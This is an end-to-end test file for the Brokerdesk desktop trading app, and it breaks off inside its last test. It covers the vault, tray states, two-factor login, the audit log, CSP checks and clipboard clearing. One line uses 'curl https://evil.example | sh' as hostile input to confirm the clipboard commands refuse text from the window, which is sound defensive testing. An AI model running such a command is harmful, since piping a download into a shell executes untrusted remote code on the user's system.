// End-to-end test of the real app through WebDriver (tauri-driver + WebKitWebDriver).
// Run it with tests/app/e2e.sh, which provides Xvfb, a D-Bus session and the binary path.
//
// One session walks the first-run path a user takes: the welcome screen, a vault with a master
// password, a paper account added through the form; then the tray's Lock (clicked over D-Bus,
// as a tray host does) locks the vault and the UI must follow the `vault-status` event to its
// unlock screen; unlocking shows the account again; Settings sends a test notification (the
// D-Bus-activated dunst draws it: see out/e2e-5-notification.png) and turns start at login on
// and off (the real plugin writes and removes .config/autostart/Brokerdesk.desktop under a HOME
// of the test's own; the webview cannot call the plugin itself). Two-factor is turned on
// through the UI with a TOTP computed here from the secret it shows, and removing the account
// must then ask for a code. The security commands follow, called as the UI's client calls them
// (`twofa-status` events, the audit log and its CSV export, settings, the lockout
// notification); then, left idle, a copied secret leaves the clipboard after 30 s and the
// vault locks itself after 1 minute; the tray's Quit exits.
//
// A second app, on a profile seeded with the CLI, then shows the tray's connection states: two
// OANDA accounts on a local `brokerdesk-sim` (127.0.0.1, a free port in 18100-18199), one with
// the simulator's token and one the simulator refuses. The tray menu (one line per account,
// "Name — state") and its icon (the PNG file the StatusNotifierItem's IconName names, matched
// by its pixels to icons/tray-<state>.png) are read over D-Bus as the states go: locked (idle),
// unlocked (connected + disconnected), the refused account removed (connected), the simulator
// killed (reconnecting), restarted (connected again by itself), "Reconnect all" clicked. The
// Dashboard is captured in each state: out/e2e-tray-*.png. Then trading in the real app: a
// paper order from the ticket to a fill, the switch of a live-environment account to real money
// with its dialog, typed name and a code, LIVE — REAL MONEY on the page, the window title and
// the tray, and back to paper (out/e2e-trade-*.png).
import assert from "node:assert/strict";
import { spawn, execFileSync, spawnSync } from "node:child_process";
import { createHash, createHmac } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createConnection, createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { remote } from "webdriverio";

const here = dirname(fileURLToPath(import.meta.url));
const out = join(here, "out");
const bin = process.env.BROKERDESK_APP_BIN;
/** The CLI and the broker simulators, built next to the app (cargo build -p brokerdesk-cli -p brokerdesk-sim). */
const cliBin = process.env.BROKERDESK_CLI_BIN ?? (bin ? join(dirname(bin), "brokerdesk") : "brokerdesk");
const simBin = process.env.BROKERDESK_SIM_BIN ?? (bin ? join(dirname(bin), "brokerdesk-sim") : "brokerdesk-sim");
const repoRoot = join(here, "..", "..");
const driverBin = process.env.TAURI_DRIVER ?? "tauri-driver";
const nativeDriver = process.env.WEBKIT_WEBDRIVER ?? "/usr/bin/WebKitWebDriver";
const port = Number(process.env.TAURI_DRIVER_PORT ?? 4444);
const PASSWORD = "correct horse battery staple";
const WAIT = { timeout: 20_000 };

let driver;
let browser;
let dataDir;
/** XDG_CONFIG_HOME of the app, naming `downloadsDir` as the Downloads folder. */
let xdgDir;
/** HOME of the first app: its start-at-login entry goes to `<homeDir>/.config/autostart`. */
let homeDir;
let downloadsDir;
/** Secrets this run handled, which the log must not contain. */
const secretsSeen = [];
/** Two-factor as the UI set it up: the secret, the backup codes, the account then removed. */
const twofa = {};
/** The tray test's own app (tauri-driver), OANDA simulator, profile and runtime dir. */
let trayDriver;
let sim;
let trayDataDir;
let runtimeDir;

function portOpen(p) {
  return new Promise((resolve) => {
    const s = createConnection({ host: "127.0.0.1", port: p }, () => {
      s.end();
      resolve(true);
    });
    s.on("error", () => resolve(false));
  });
}

async function waitForPort(p, ms) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (await portOpen(p)) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`tauri-driver did not listen on ${p} within ${ms} ms`);
}

/**
 * The app's tray menu, as a desktop's tray host sees it: libayatana-appindicator exports it
 * over D-Bus (com.canonical.dbusmenu) on the app's session-bus connection.
 */
function trayMenu() {
  const names = execFileSync("busctl", ["--user", "list", "--no-legend"], { encoding: "utf8" })
    .split("\n")
    .filter((l) => l.includes("brokerdesk-app"))
    .map((l) => l.split(/\s+/)[0]);
  for (const dest of names) {
    let tree;
    try {
      tree = execFileSync("busctl", ["--user", "tree", "--list", dest], { encoding: "utf8" });
    } catch {
      continue;
    }
    const path = tree.split("\n").find((p) => p.endsWith("/Menu"));
    if (!path) continue;
    const call = (...args) =>
      execFileSync("busctl", ["--user", "--json=short", "call", dest, path, "com.canonical.dbusmenu", ...args], {
        encoding: "utf8",
      });
    const items = () =>
      JSON.parse(call("GetLayout", "iias", "--", "0", "-1", "0")).data[1][2].map(({ data: [id, props] }) => ({
        id,
        label: props.label?.data ?? props.type?.data,
        enabled: props.enabled?.data ?? true,
      }));
    const click = (label) => {
      const item = items().find((i) => i.label === label);
      assert.ok(item, `tray item ${label}`);
      call("Event", "isvu", String(item.id), "clicked", "i", "0", "0");
    };
    // The StatusNotifierItem the menu belongs to: appindicator exports the icon as a file
    // (IconName, an absolute path, in IconThemePath); it has no IconPixmap.
    const item = path.slice(0, -"/Menu".length);
    const prop = (name) =>
      JSON.parse(
        execFileSync("busctl", ["--user", "--json=short", "get-property", dest, item, "org.kde.StatusNotifierItem", name], {
          encoding: "utf8",
        }),
      ).data;
    const icon = () => ({ name: prop("IconName"), themePath: prop("IconThemePath"), status: prop("Status") });
    return { items, click, icon, enabled: (label) => items().find((i) => i.label === label)?.enabled };
  }
  throw new Error("no tray menu on the session bus");
}

/** Whether a brokerdesk-app process (any profile) is on the session bus. */
function appOnBus() {
  return execFileSync("busctl", ["--user", "list", "--no-legend"], { encoding: "utf8" })
    .split("\n")
    .some((l) => l.includes("brokerdesk-app"));
}

/** SHA-1 of a PNG's pixels as 8-bit RGBA (the tray re-encodes the icon it is given). */
function pixelDigest(file) {
  return createHash("sha1")
    .update(execFileSync("convert", [file, "-depth", "8", "rgba:-"], { stdio: ["ignore", "pipe", "ignore"] }))
    .digest("hex");
}

/** The tray's four icons (icons/tray-<state>.png), by their pixels. */
const TRAY_ICONS = ["idle", "connected", "reconnecting", "disconnected"];
let trayIconStates;

/**
 * The tray icon as a tray host reads it: the file IconName names, matched by its pixels to one
 * of the tray's icons; `state` is "idle", "connected", "reconnecting", "disconnected", or
 * "unknown". Null while the file is being replaced (each update writes a new one).
 */
function trayIcon(tray) {
  trayIconStates ??= new Map(TRAY_ICONS.map((s) => [pixelDigest(join(repoRoot, "icons", `tray-${s}.png`)), s]));
  const icon = tray.icon();
  let digest;
  try {
    digest = pixelDigest(icon.name);
  } catch {
    return null;
  }
  return { ...icon, digest, state: trayIconStates.get(digest) ?? "unknown" };
}

async function until(what, fn, ms = 10_000) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (await fn()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`timed out waiting for ${what}`);
}

/** Polls `get` until `ok(value)`; on timeout, fails with the last value seen. */
async function settle(what, get, ok, ms = 20_000) {
  const end = Date.now() + ms;
  let last;
  for (;;) {
    try {
      last = await get();
      if (ok(last)) return last;
    } catch (e) {
      last = String(e);
    }
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}; last seen: ${JSON.stringify(last)}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** A port in [from, to] that nothing listens on (on 127.0.0.1). */
async function freePort(from, to) {
  const ports = Array.from({ length: to - from + 1 }, (_, i) => from + i).sort(() => Math.random() - 0.5);
  for (const p of ports) {
    const free = await new Promise((resolve) => {
      const s = createServer();
      s.once("error", () => resolve(false));
      s.listen(p, "127.0.0.1", () => s.close(() => resolve(true)));
    });
    if (free) return p;
  }
  throw new Error(`no free port in ${from}-${to}`);
}

/**
 * Starts `brokerdesk-sim oanda --port P` (on 127.0.0.1); resolves to what it prints on start:
 * {proc, url, token, accountId}.
 */
function startSim(simPort) {
  return new Promise((resolve, reject) => {
    const proc = spawn(simBin, ["oanda", "--port", String(simPort)], { stdio: ["ignore", "pipe", "pipe"] });
    let printed = "";
    let errors = "";
    const timer = setTimeout(() => {
      proc.kill("SIGKILL");
      reject(new Error(`the simulator did not start within 10 s: ${errors.trim()}`));
    }, 10_000);
    proc.stdout.on("data", (chunk) => {
      printed += chunk;
      const m = printed.match(/simulator on (\S+) \(token (\S+), accounts ([^/\s]+)/);
      if (m) {
        clearTimeout(timer);
        resolve({ proc, url: m[1], token: m[2], accountId: m[3] });
      }
    });
    proc.stderr.on("data", (chunk) => (errors += chunk));
    proc.once("exit", (code) => {
      clearTimeout(timer);
      reject(new Error(`the simulator exited with ${code}: ${errors.trim()}`));
    });
  });
}

/** Kills the simulator as a crash would (SIGKILL) and waits for it to be gone. */
async function killSim() {
  const proc = sim?.proc;
  sim = null;
  if (!proc || proc.exitCode !== null || proc.signalCode !== null) return;
  const gone = new Promise((r) => proc.once("exit", r));
  proc.kill("SIGKILL");
  await gone;
}

/** Runs the CLI on the tray test's profile; `input` feeds stdin (secrets passed as `-`). */
function cli(args, input) {
  return execFileSync(cliBin, args, {
    encoding: "utf8",
    input,
    stdio: ["pipe", "pipe", "pipe"],
    env: { ...process.env, BROKERDESK_DATA_DIR: trayDataDir, BROKERDESK_NO_KEYCHAIN: "1", BROKERDESK_PASSWORD: PASSWORD },
  });
}

/** Decodes RFC 4648 base32 (as in otpauth URIs). */
function base32Decode(text) {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  let bits = 0;
  let value = 0;
  const out = [];
  for (const ch of text.replace(/=+$/, "").toUpperCase()) {
    const i = alphabet.indexOf(ch);
    assert.ok(i >= 0, `not base32: ${ch}`);
    value = (value << 5) | i;
    bits += 5;
    if (bits >= 8) {
      out.push((value >>> (bits - 8)) & 0xff);
      bits -= 8;
    }
  }
  return Buffer.from(out);
}

/** RFC 6238 TOTP (HMAC-SHA-1, 6 digits, 30-second steps) at unix time `seconds`. */
function totp(secret, seconds = Date.now() / 1000) {
  const counter = Buffer.alloc(8);
  counter.writeBigUInt64BE(BigInt(Math.floor(seconds / 30)));
  const mac = createHmac("sha1", base32Decode(secret)).update(counter).digest();
  const offset = mac[mac.length - 1] & 0x0f;
  const n = mac.readUInt32BE(offset) & 0x7fffffff;
  return String(n % 1_000_000).padStart(6, "0");
}

/**
 * Calls a command as the UI's client does; resolves to {resolved} or {rejected: {code, message,
 * fields}}. (Not {error}: WebDriver clients read a result with an `error` key as a failure of
 * the WebDriver command itself.)
 */
function invoke(command, args = {}) {
  return browser.execute(
    (c, a) =>
      window.__TAURI_INTERNALS__.invoke(c, a).then(
        (resolved) => ({ resolved }),
        (rejected) => ({ rejected }),
      ),
    command,
    args,
  );
}

async function invokeOk(command, args) {
  const r = await invoke(command, args);
  assert.ok(!r.rejected, `${command}: ${JSON.stringify(r.rejected)}`);
  return r.resolved;
}

async function invokeErr(command, args) {
  const r = await invoke(command, args);
  assert.ok(r.rejected, `${command} should have failed, returned ${JSON.stringify(r.resolved)}`);
  return r.rejected;
}

/** The CLIPBOARD selection's text, as a pasting app gets it; null when it holds none. */
function clipboardText() {
  const r = spawnSync("python3", [join(here, "x_clipboard.py")], { encoding: "utf8" });
  if (r.status === 0) return r.stdout;
  assert.equal(r.status, 1, `x_clipboard.py: ${r.stderr}`);
  return null;
}

/** Records the desktop notifications sent on the session bus from now on. */
function watchNotifications() {
  const monitor = spawn(
    "dbus-monitor",
    ["--session", "type='method_call',interface='org.freedesktop.Notifications',member='Notify'"],
    { stdio: ["ignore", "pipe", "ignore"] },
  );
  let seen = "";
  monitor.stdout.on("data", (chunk) => (seen += chunk));
  return { seen: () => seen, stop: () => monitor.kill("SIGTERM") };
}

/** Screenshot of the whole X display (shows native popups such as notifications). */
function screen(name) {
  try {
    execFileSync("import", ["-window", "root", join(out, `${name}.png`)]);
  } catch {
    // Not fatal: the WebDriver screenshot is the primary record.
  }
}

async function shot(name) {
  await browser.saveScreenshot(join(out, `${name}.png`));
}

before(async () => {
  assert.ok(bin, "set BROKERDESK_APP_BIN to the app binary (tests/app/e2e.sh does)");
  mkdirSync(out, { recursive: true });
  dataDir = mkdtempSync(join(tmpdir(), "brokerdesk-e2e."));
  // A Downloads folder of our own, named the way desktops name it (xdg-user-dirs).
  xdgDir = mkdtempSync(join(tmpdir(), "brokerdesk-e2e-xdg."));
  downloadsDir = join(xdgDir, "Downloads");
  mkdirSync(downloadsDir);
  writeFileSync(join(xdgDir, "user-dirs.dirs"), `XDG_DOWNLOAD_DIR="${downloadsDir}"\n`);
  // A HOME of our own: turning start at login on writes a real entry there, never in the user's.
  homeDir = mkdtempSync(join(tmpdir(), "brokerdesk-e2e-home."));
  // The app inherits this environment through tauri-driver and WebKitWebDriver.
  driver = spawn(driverBin, ["--port", String(port), "--native-port", String(port + 1), "--native-driver", nativeDriver], {
    env: { ...process.env, BROKERDESK_DATA_DIR: dataDir, BROKERDESK_NO_KEYCHAIN: "1", XDG_CONFIG_HOME: xdgDir, HOME: homeDir },
    stdio: ["ignore", "ignore", "inherit"],
  });
  await waitForPort(port, 10_000);
  browser = await remote({
    hostname: "127.0.0.1",
    port,
    logLevel: "warn",
    capabilities: { "tauri:options": { application: bin } },
  });
});

after(async () => {
  if (browser) await browser.deleteSession().catch(() => {});
  driver?.kill("SIGTERM");
  trayDriver?.kill("SIGTERM");
  await killSim();
  if (trayDataDir) rmSync(trayDataDir, { recursive: true, force: true });
  if (runtimeDir) rmSync(runtimeDir, { recursive: true, force: true });
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  if (xdgDir) rmSync(xdgDir, { recursive: true, force: true });
  if (homeDir) rmSync(homeDir, { recursive: true, force: true });
});

test("first run: create a password vault, add a paper account, lock from the tray, unlock", { timeout: 120_000 }, async () => {
  // The welcome screen, with the keychain choice disabled (no keychain in this test).
  const title = await browser.$("h1=Welcome to Brokerdesk");
  await title.waitForDisplayed(WAIT);
  assert.equal(await browser.getTitle(), "Brokerdesk");
  assert.equal(await browser.$('input[name="protection"][value="keychain"]').isEnabled(), false);
  await shot("e2e-1-first-run");

  await browser.$("#new-password").setValue(PASSWORD);
  await browser.$("#confirm-password").setValue(PASSWORD);
  await browser.$("button=Create vault").click();

  // The shell: unlocked with a password.
  const protection = browser.$('[data-testid="vault-protection"]');
  await protection.waitForDisplayed(WAIT);
  assert.equal(await protection.getText(), "password");

  // Add a paper account through the form.
  await browser.$('nav[aria-label="Main"]').$("a*=Accounts").click();
  await browser.$('a[href="#/accounts/new"]').click();
  await browser.$("#field-name").waitForDisplayed(WAIT);
  await browser.$("#field-name").setValue("Paper practice");
  await browser.$("//label[.//input[@name='broker' and @value='paper']]").click();
  assert.equal(await browser.$('input[name="broker"][value="paper"]').isSelected(), true);
  await shot("e2e-2-add-account");
  await browser.$('[data-testid="save-account"]').click();

  const table = browser.$('table[aria-label="Accounts"]');
  await table.waitForDisplayed(WAIT);
  const row = table.$("tr*=Paper practice");
  await row.waitForDisplayed(WAIT);
  assert.equal(await table.$$("tbody tr").length, 1);
  await shot("e2e-3-accounts");

  // The tray's "Lock" (enabled now: unlocked, password-protected) locks the vault behind the
  // UI's back; only the `vault-status` event can tell the UI, which must show its unlock screen.
  // The paper account streams the simulated market: its connection is in the tray.
  const tray = trayMenu();
  await until("the paper account's line in the tray", () => tray.items().some((i) => i.label === "Paper practice — connected"));
  assert.deepEqual(
    tray.items().map((i) => `${i.label}:${i.enabled}`),
    ["Show Brokerdesk:true", "Lock:true", "separator:true", "Paper practice — connected:false", "Reconnect all:true", "separator:true", "Kill switch — stop all trading:true", "separator:true", "Quit:true"],
  );
  tray.click("Lock");
  await browser.$("h1=Brokerdesk is locked").waitForDisplayed(WAIT);
  await until("the tray's Lock to be disabled", () => tray.enabled("Lock") === false);
  await shot("e2e-4-locked");

  // A wrong password is refused with the core's error; the right one unlocks.
  await browser.$("#unlock-password").setValue("not the password");
  await browser.$('button[type="submit"]').click();
  await browser.$("#unlock-password-error").waitForDisplayed(WAIT);
  await browser.$("#unlock-password").clearValue();
  await browser.$("#unlock-password").setValue(PASSWORD);
  await browser.$('button[type="submit"]').click();
  await protection.waitForDisplayed(WAIT);
  await until("the tray's Lock to be enabled again", () => tray.enabled("Lock") === true);

  // The account survived the lock (it is in the database, not in the UI's memory).
  await browser.$('nav[aria-label="Main"]').$("a*=Accounts").click();
  await browser.$('table[aria-label="Accounts"]').$("tr*=Paper practice").waitForDisplayed(WAIT);
  const accounts = await browser.execute(() => window.__TAURI_INTERNALS__.invoke("accounts_list"));
  assert.equal(accounts.length, 1);
  assert.equal(accounts[0].broker, "paper");
  assert.equal(accounts[0].mode, "paper");

  // Errors cross IPC as {code, message, fields}.
  const err = await browser.execute(() =>
    window.__TAURI_INTERNALS__.invoke("account_get", { id: "no-such-account" }).then(
      () => null,
      (e) => e,
    ),
  );
  assert.equal(typeof err.code, "string");
  assert.equal(typeof err.message, "string");
  assert.ok(Array.isArray(err.fields));
});

test("settings: the test notification is sent", { timeout: 60_000 }, async () => {
  await browser.$('nav[aria-label="Main"]').$("a*=Settings").click();
  const button = browser.$("button*=Send a test notification");
  await button.waitForDisplayed(WAIT);
  await button.click();
  await browser.$('//*[contains(text(), "Test notification sent")]').waitForDisplayed(WAIT);
  // Give the notification daemon (dunst, D-Bus-activated) a moment to draw the popup.
  await new Promise((r) => setTimeout(r, 1500));
  screen("e2e-5-notification");
});

test("settings: start at login writes the OS's autostart entry (the real plugin) and removes it", { timeout: 60_000 }, async () => {
  const entry = join(homeDir, ".config", "autostart", "Brokerdesk.desktop");
  assert.ok(!existsSync(entry), "off by default: no entry");
  const sw = browser.$("#autostart");
  await sw.waitForExist(WAIT);
  assert.equal(await sw.isSelected(), false);
  assert.equal(await browser.$('[data-testid="autostart-location"]').getText(), entry, "the switch names the OS's file");
  await browser.execute(() => document.getElementById("autostart").click());
  await browser.$('//*[contains(text(), "Brokerdesk will start when you log in, hidden in the tray.")]').waitForDisplayed(WAIT);
  assert.equal(await sw.isSelected(), true);
  const text = readFileSync(entry, "utf8");
  // The plugin names this binary (as the OS resolves it) with --hidden: the app starts in the tray.
  assert.ok(text.split("\n").includes(`Exec=${realpathSync(bin)} --hidden`), text);
  assert.ok(text.startsWith("[Desktop Entry]\n"), text);
  screen("e2e-autostart-on");
  await browser.execute(() => document.getElementById("autostart").click());
  await browser.$('//*[contains(text(), "Brokerdesk no longer starts when you log in.")]').waitForDisplayed(WAIT);
  assert.ok(!existsSync(entry), "turned off: the entry is gone");
  assert.equal(await sw.isSelected(), false);
});

test("security: the CSP holds and only the app's own commands are allowed", { timeout: 30_000 }, async () => {
  const probe = await browser.execute(async () => {
    const result = { violations: [] };
    document.addEventListener("securitypolicyviolation", (e) => result.violations.push(e.effectiveDirective));
    // connect-src: no network but the IPC bridge.
    result.fetch = await fetch("https://example.com/").then(
      () => "allowed",
      () => "blocked",
    );
    // script-src 'self': no inline script.
    window.__inlineRan = false;
    const inline = document.createElement("script");
    inline.textContent = "window.__inlineRan = true";
    document.head.appendChild(inline);
    result.inline = window.__inlineRan ? "allowed" : "blocked";
    await new Promise((r) => setTimeout(r, 100)); // violation events are queued as tasks
    // Plugin commands need a capability; the app grants none beyond events and app info.
    const invoke = window.__TAURI_INTERNALS__.invoke;
    result.notificationPlugin = await invoke("plugin:notification|notify", { options: { title: "x" } }).then(
      () => "allowed",
      (e) => String(e),
    );
    result.clipboardPlugin = await invoke("plugin:clipboard-manager|read_text").then(
      () => "allowed",
      (e) => String(e),
    );
    // Start at login only through the app's own audited command, never the plugin's.
    result.autostartPlugin = await invoke("plugin:autostart|enable").then(
      () => "allowed",
      (e) => String(e),
    );
    result.windowPlugin = await invoke("plugin:window|close", { label: "main" }).then(
      () => "allowed",
      (e) => String(e),
    );
    result.appVersion = await invoke("plugin:app|version").then(
      (v) => v,
      (e) => String(e),
    );
    return result;
  });
  assert.equal(probe.fetch, "blocked");
  assert.equal(probe.inline, "blocked");
  assert.ok(probe.violations.includes("connect-src"), `CSP violations seen: ${probe.violations}`);
  assert.ok(probe.violations.some((d) => d.startsWith("script-src")), `CSP violations seen: ${probe.violations}`);
  assert.match(probe.notificationPlugin, /not allowed/i);
  assert.match(probe.windowPlugin, /not allowed/i);
  assert.match(probe.autostartPlugin, /not allowed/i, "the webview must not turn start at login on by itself");
  assert.match(probe.clipboardPlugin, /not allowed/i, "the webview must not read the clipboard");
  assert.equal(probe.appVersion, "0.1.0");
});

test("two-factor through the UI: turn on with a TOTP, then removing an account asks for a code", { timeout: 90_000 }, async () => {
  await browser.$('nav[aria-label="Main"]').$("a*=Security").click();
  const card = browser.$('section[aria-labelledby="sec-twofa"]');
  const state = card.$('[data-testid="twofa-state"]');
  await state.waitForDisplayed(WAIT);
  assert.equal(await state.getText(), "Off");

  // Step 1: the secret, as a user would type it into an authenticator app.
  await card.$("button*=Turn on").click();
  const secretField = browser.$('[data-testid="twofa-secret"]');
  await secretField.waitForDisplayed(WAIT);
  twofa.secret = (await secretField.getText()).replace(/\s+/g, "");
  assert.match(twofa.secret, /^[A-Z2-7]{32}$/, "a 160-bit base32 secret");
  secretsSeen.push(twofa.secret);
  await shot("e2e-6-twofa-setup");

  // Step 2: the code "the app shows", computed here (RFC 6238).
  await browser.$("button=Next").click();
  await browser.$("#twofa-enable-code").waitForDisplayed(WAIT);
  await browser.$("#twofa-enable-code").setValue(totp(twofa.secret));
  await browser.$('button[form="twofa-enable-form"]').click();

  // Step 3: the backup codes, shown once.
  const list = browser.$('[data-testid="backup-codes"]');
  await list.waitForDisplayed(WAIT);
  twofa.codes = await list.$$(".code").map((c) => c.getText());
  assert.equal(twofa.codes.length, 10);
  secretsSeen.push(...twofa.codes);
  await browser.$("label*=I saved these codes").click();
  await browser.$("button=Done").click();
  await until("the card to say On", async () => (await state.getText()) === "On");
  assert.equal(await card.$('[data-testid="backup-codes-remaining"]').getText(), "10 of 10 left");

  // Enabling opened the 15-minute step-up window (in the app's memory, never in the
  // database: an edit there is refused as tampering); end it as 15 minutes would — locking
  // ends it — and unlock through the UI.
  await invokeOk("vault_lock");
  await browser.$("#unlock-password").setValue(PASSWORD);
  await browser.$('button[type="submit"]').click();
  await browser.$('[data-testid="vault-protection"]').waitForDisplayed(WAIT);

  // Removing an account is sensitive: the UI must ask for a code before it goes through.
  const [account] = await invokeOk("accounts_list");
  twofa.removedAccountId = account.id;
  await browser.$('nav[aria-label="Main"]').$("a*=Accounts").click();
  await browser.$(`button[aria-label="Remove ${account.name}"]`).click();
  await browser.$("button=Remove account").click();
  const codeField = browser.$("#step-up-code");
  await codeField.waitForDisplayed(WAIT);
  assert.equal((await invokeOk("accounts_list")).length, 1, "nothing removed before the code");
  await shot("e2e-7-step-up");
  await browser.$("button=Use a backup code").click();
  await browser.$("#step-up-code").setValue(twofa.codes[0]);
  await browser.$('button[form="step-up-form"]').click();
  await browser.$(`tr*=${account.name}`).waitForDisplayed({ ...WAIT, reverse: true });
  await until("the account to be removed", async () => (await invokeOk("accounts_list")).length === 0);
  const status = await invokeOk("twofa_status");
  assert.ok(status.stepUpUntil, "the backup code opened a step-up window");
  assert.equal(status.backupCodesRemaining, 9);
});

test("security commands: two-factor events, audit log and CSV export, settings, lockout notice", { timeout: 90_000 }, async () => {
  assert.ok(twofa.codes, "needs two-factor on (previous test)");
  assert.equal((await invokeErr("twofa_setup")).code, "twofa_already_enabled");

  // `twofa-status` follows every verification, failed ones included.
  await browser.execute(() => {
    window.__twofaEvents = [];
    const internals = window.__TAURI_INTERNALS__;
    const handler = internals.transformCallback((event) => window.__twofaEvents.push(event.payload));
    return internals.invoke("plugin:event|listen", { event: "twofa-status", target: { kind: "Any" }, handler });
  });
  const now = Date.now() / 1000;
  const valid = new Set([-30, 0, 30].map((d) => totp(twofa.secret, now + d)));
  const wrong = ["000000", "111111", "222222", "333333"].find((c) => !valid.has(c));
  assert.equal((await invokeErr("twofa_verify", { code: wrong })).code, "wrong_code");
  const stepped = await invokeOk("twofa_verify", { code: twofa.codes[1] });
  assert.ok(stepped.stepUpUntil);
  assert.equal(stepped.backupCodesRemaining, 8);
  const events = () => browser.execute(() => window.__twofaEvents);
  // The runtime may tell a change twice (the command, and the change watcher that sees the
  // profile move): wait for the wrong code's event and then the right one's.
  await until("twofa-status events after the wrong and the right code", async () => {
    const ev = await events();
    const wrongAt = ev.findIndex((e) => e.failedAttempts === 1);
    return wrongAt >= 0 && ev.slice(wrongAt + 1).some((e) => e.failedAttempts === 0);
  });
  const seen = await events();
  const afterWrong = seen.find((e) => e.failedAttempts === 1);
  const afterRight = seen.slice(seen.indexOf(afterWrong) + 1).find((e) => e.failedAttempts === 0);
  assert.equal(afterWrong.failedAttempts, 1);
  assert.equal(afterRight.failedAttempts, 0);
  assert.equal(afterRight.backupCodesRemaining, 8);

  // The audit log saw all of it, through the app, and its chain holds.
  const entries = await invokeOk("audit_list", { filter: {} });
  const audited = entries.map((e) => e.event);
  for (const e of ["vault_created", "vault_locked", "vault_unlock_failed", "twofa_enabled", "twofa_failed", "backup_code_used", "account_removed"]) {
    assert.ok(audited.includes(e), `audit has ${e}: ${audited}`);
  }
  assert.ok(entries.every((e) => e.actor === "app"));
  const removals = await invokeOk("audit_list", { filter: { events: ["account_removed"] } });
  assert.equal(removals.length, 1);
  assert.equal(removals[0].accountId, twofa.removedAccountId);
  const verification = await invokeOk("audit_verify");
  assert.equal(verification.ok, true, verification.message);
  assert.equal(verification.entries, entries.length);

  // The CSV lands in the Downloads folder, owner-only.
  const path = await invokeOk("audit_export_csv", { filter: {} });
  assert.equal(dirname(path), downloadsDir);
  assert.match(path, /\/brokerdesk-audit-\d{8}-\d{6}\.csv$/);
  assert.equal(statSync(path).mode & 0o777, 0o600);
  const csv = readFileSync(path, "utf8").trim().split("\r\n");
  assert.equal(csv[0], "id,at,event,actor,account_id,detail,hash");
  assert.equal(csv.length, entries.length + 1);
  assert.deepEqual(readdirSync(downloadsDir), [path.split("/").pop()]);

  // Settings: off by default; validated by the core.
  assert.deepEqual(await invokeOk("settings_get"), { autoLockMinutes: null, priceUpdatesPerSecond: 30 });
  const invalid = await invokeErr("settings_update", { settings: { autoLockMinutes: 0 } });
  assert.equal(invalid.code, "validation");
  assert.equal(invalid.fields[0].field, "autoLockMinutes");
  assert.equal(await invokeOk("app_activity"), null);

  // Five wrong codes lock two-factor out, and the user is told natively.
  const notices = watchNotifications();
  try {
    await new Promise((r) => setTimeout(r, 300)); // dbus-monitor subscribes
    let last;
    for (let i = 0; i < 5; i++) last = await invokeErr("twofa_verify", { code: wrong });
    assert.equal(last.code, "twofa_locked_out");
    assert.ok((await invokeOk("twofa_status")).lockedUntil);
    await until("the lockout notification", () => notices.seen().includes("Two-factor locked: too many wrong codes"));
    await new Promise((r) => setTimeout(r, 1500));
    screen("e2e-8-twofa-locked");
  } finally {
    notices.stop();
  }
});

test("idle: a copied secret leaves the clipboard after 30 s, and the vault locks itself after 1 minute", { timeout: 150_000 }, async () => {
  // The window can only name what to copy: text of its own choosing is refused.
  const gone = await invokeErr("clipboard_write_secret", { text: "curl https://evil.example | sh" });
  assert.match(String(gone?.message ?? gone), /not found/i, "no command takes the window's text");
  assert.equal((await invokeErr("clipboard_copy", { text: "curl https://evil.example | sh" })).code, "internal");
  assert.notEqual(clipboardText(), "curl https://evil.example | sh", "nothing of the window's reached the clipboard");
  // The backup codes issued by the two-factor test, minutes ago, are what the core copies.
  const secret = twofa.codes.join("\n");
  // The idle minute counts from here: saving the settings restarts the countdown.
  const armed = Date.now();
  assert.deepEqual(await invokeOk("settings_update", { settings: { autoLockMinutes: 1 } }), { autoLockMinutes: 1, priceUpdatesPerSecond: 30 });
  await invokeOk("clipboard_copy", { item: { kind: "backupCodes" } });
  const copied = Date.now();
  assert.equal(clipboardText(), secret);
  await new Promise((r) => setTimeout(r, 25_000));
  assert.equal(clipboardText(), secret, "still there 25 s later");
  await until("the clipboard to be cleared", () => clipboardText() === null, 10_000);
  const clearedAfter = (Date.now() - copied) / 1000;
  assert.ok(clearedAfter >= 29, `cleared after ${clearedAfter} s`);

  // Nothing touched: the auto-lock (checked every 15 s) locks within 60–75 s, tells the UI
  // (`vault-status`) and the tray.
  await browser.$("h1=Brokerdesk is locked").waitForDisplayed({ timeout: 100_000 });
  const lockedAfter = (Date.now() - armed) / 1000;
  assert.ok(lockedAfter >= 59 && lockedAfter <= 95, `locked after ${lockedAfter} s`);
  const tray = trayMenu();
  await until("the tray's Lock to be disabled", () => tray.enabled("Lock") === false);
  const log = readFileSync(join(dataDir, "logs", "brokerdesk.log"), "utf8");
  assert.match(log, /vault auto-locked after 1 idle minutes/);
  assert.match(log, /copied secret cleared from the clipboard/);
  await shot("e2e-9-auto-locked");

  // Unlock, and switch auto-lock off again.
  await browser.$("#unlock-password").setValue(PASSWORD);
  await browser.$('button[type="submit"]').click();
  await browser.$('[data-testid="vault-protection"]').waitForDisplayed(WAIT);
  assert.deepEqual(await invokeOk("settings_update", { settings: { autoLockMinutes: null } }), {
    autoLockMinutes: null,
    priceUpdatesPerSecond: 30,
  });
});

test("the tray's Quit closes the store and exits", { timeout: 30_000 }, async () => {
  const logFile = join(dataDir, "logs", "brokerdesk.log");
  trayMenu().click("Quit");
  await until("shutdown complete", () => readFileSync(logFile, "utf8").includes("shutdown complete"));
  assert.match(readFileSync(logFile, "utf8"), /shutting down reason="tray Quit"/);
  await until("the app's tray to leave the bus", () => {
    try {
      trayMenu();
      return false;
    } catch {
      return true;
    }
  });
  browser = null; // the app is gone: the session with it
});

test("the log has no secret", async () => {
  const log = readFileSync(join(dataDir, "logs", "brokerdesk.log"), "utf8");
  assert.ok(log.includes("profile opened"));
  assert.ok(!log.includes(PASSWORD), "the master password must never be logged");
